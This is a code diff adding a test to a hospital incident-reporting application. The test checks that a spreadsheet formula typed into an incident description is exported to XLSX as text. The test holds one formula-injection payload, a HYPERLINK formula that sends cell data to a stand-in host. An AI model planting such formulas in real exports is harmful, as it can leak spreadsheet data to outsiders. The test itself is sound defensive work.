@@ -65,3 +65,18 @@ def test_report_and_follow_an_incident_through_the_pages(
         io.BytesIO(handler.get("/incidents/?from=2026-11-01&to=2026-11-30&format=xlsx").content)
     )
     assert book.active.cell(2, 1).value == incident.number
+
+
+def test_a_formula_typed_into_a_description_is_exported_as_text(
+    client_for, technologist, imaging, make_staff
+):
+    officer = make_staff(Role.MEDICAL_AFFAIRS, whole_hospital=True)
+    attack = '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")'
+    client_for(technologist).post("/incidents/new/", {
+        "department": imaging.pk, "kind": "error", "category": "report", "severity": "3",
+        "occurred_at": "2026-11-23T07:00", "description": attack,
+    })  # fmt: skip
+    content = client_for(officer).get("/incidents/?from=2026-11-01&to=2026-11-30&format=xlsx")
+    sheet = load_workbook(io.BytesIO(content.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == attack]
+    assert cells and all(c.data_type == "s" for c in cells)  # a string, not a formula
